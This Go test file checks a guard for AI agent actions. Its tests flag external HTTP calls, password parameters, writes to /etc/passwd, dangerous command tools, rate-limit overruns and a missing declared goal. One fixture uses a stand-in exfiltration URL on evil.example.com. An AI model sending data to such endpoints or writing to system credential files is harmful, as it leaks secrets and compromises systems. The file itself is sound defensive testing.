package ciaa

import (
	"testing"

	"github.com/ciaaguard/ciaaguard/internal/action"
)

func mustReq(t *testing.T, r action.Request) *action.Request {
	t.Helper()
	req, err := action.NewRequest(r)
	if err != nil {
		t.Fatalf("NewRequest: %v", err)
	}
	return req
}

func TestEvaluateFlagsExternalHTTPConfidentiality(t *testing.T) {
	e := NewEvaluator()
	req := mustReq(t, action.Request{
		AgentID:    "a1",
		ActionType: action.ToolCall,
		Target:     "http_request",
		Parameters: map[string]interface{}{"url": "https://evil.example.com/exfiltrate"},
	})

	violations := e.Evaluate(req)
	if _, ok := violations["C"]; !ok {
		t.Errorf("expected confidentiality violation, got %+v", violations)
	}
}

func TestEvaluateAllowsInternalHTTP(t *testing.T) {
	e := NewEvaluator()
	req := mustReq(t, action.Request{
		AgentID:    "a1",
		ActionType: action.ToolCall,
		Target:     "http_request",
		Parameters: map[string]interface{}{"url": "http://internal.corp/api"},
	})

	violations := e.Evaluate(req)
	if _, ok := violations["C"]; ok {
		t.Errorf("did not expect confidentiality violation for internal URL, got %+v", violations)
	}
}

func TestEvaluateFlagsSensitiveParameterPattern(t *testing.T) {
	e := NewEvaluator()
	req := mustReq(t, action.Request{
		AgentID:    "a1",
		ActionType: action.APICall,
		Target:     "update_profile",
		Parameters: map[string]interface{}{"password": "hunter2"},
	})

	violations := e.Evaluate(req)
	if _, ok := violations["C"]; !ok {
		t.Errorf("expected confidentiality violation for password parameter, got %+v", violations)
	}
}

func TestEvaluateFlagsCriticalPathIntegrityViolation(t *testing.T) {
	e := NewEvaluator()
	req := mustReq(t, action.Request{
		AgentID:    "a1",
		ActionType: action.FileWrite,
		Target:     "/etc/passwd",
	})

	violations := e.Evaluate(req)
	if _, ok := violations["I"]; !ok {
		t.Errorf("expected integrity violation for /etc/ write, got %+v", violations)
	}
}

func TestEvaluateFlagsDangerousTool(t *testing.T) {
	e := NewEvaluator()
	req := mustReq(t, action.Request{
		AgentID:    "a1",
		ActionType: action.ToolCall,
		Target:     "execute_command",
	})

	violations := e.Evaluate(req)
	if _, ok := violations["I"]; !ok {
		t.Errorf("expected integrity violation for dangerous tool, got %+v", violations)
	}
}

func TestEvaluateAllowsOrdinaryFileWrite(t *testing.T) {
	e := NewEvaluator()
	req := mustReq(t, action.Request{
		AgentID:    "a1",
		ActionType: action.FileWrite,
		Target:     "/home/user/notes.txt",
	})

	violations := e.Evaluate(req)
	if len(violations) != 0 {
		t.Errorf("expected no violations for ordinary file write, got %+v", violations)
	}
}

func TestEvaluateAvailabilityTripsAfterLimitForActionType(t *testing.T) {
	e := NewEvaluator()
	// network_request's default limit is 10/minute.
	var last action.CIAAViolations
	for i := 0; i < 11; i++ {
		req := mustReq(t, action.Request{
			AgentID:    "a1",
			ActionType: action.NetworkRequest,
			Target:     "fetch_page",
		})
		last = e.Evaluate(req)
	}
	if _, ok := last["A"]; !ok {
		t.Errorf("expected availability violation on the 11th network_request in a minute, got %+v", last)
	}
}

func TestEvaluateAvailabilityIsolatedPerKey(t *testing.T) {
	e := NewEvaluator()
	for i := 0; i < 11; i++ {
		req := mustReq(t, action.Request{AgentID: "a1", ActionType: action.NetworkRequest, Target: "fetch_page"})
		e.Evaluate(req)
	}
	// A different agent hitting the same target should have its own counter.
	req := mustReq(t, action.Request{AgentID: "a2", ActionType: action.NetworkRequest, Target: "fetch_page"})
	violations := e.Evaluate(req)
	if _, ok := violations["A"]; ok {
		t.Error("expected a different agent's counter to be independent")
	}
}

func TestFlagsEmptyGoal(t *testing.T) {
	withGoal := mustReq(t, action.Request{AgentID: "a1", ActionType: action.ToolCall, Target: "t", DeclaredGoal: "summarize the report"})
	withoutGoal := mustReq(t, action.Request{AgentID: "a1", ActionType: action.ToolCall, Target: "t"})

	if FlagsEmptyGoal(withGoal) {
		t.Error("did not expect empty-goal flag when declared_goal is set")
	}
	if !FlagsEmptyGoal(withoutGoal) {
		t.Error("expected empty-goal flag when declared_goal is blank")
	}
}

func TestResetClearsAvailabilityCounters(t *testing.T) {
	e := NewEvaluator()
	for i := 0; i < 11; i++ {
		req := mustReq(t, action.Request{AgentID: "a1", ActionType: action.NetworkRequest, Target: "fetch_page"})
		e.Evaluate(req)
	}
	e.Reset()

	req := mustReq(t, action.Request{AgentID: "a1", ActionType: action.NetworkRequest, Target: "fetch_page"})
	violations := e.Evaluate(req)
	if _, ok := violations["A"]; ok {
		t.Error("expected availability counters to be cleared after Reset")
	}
}
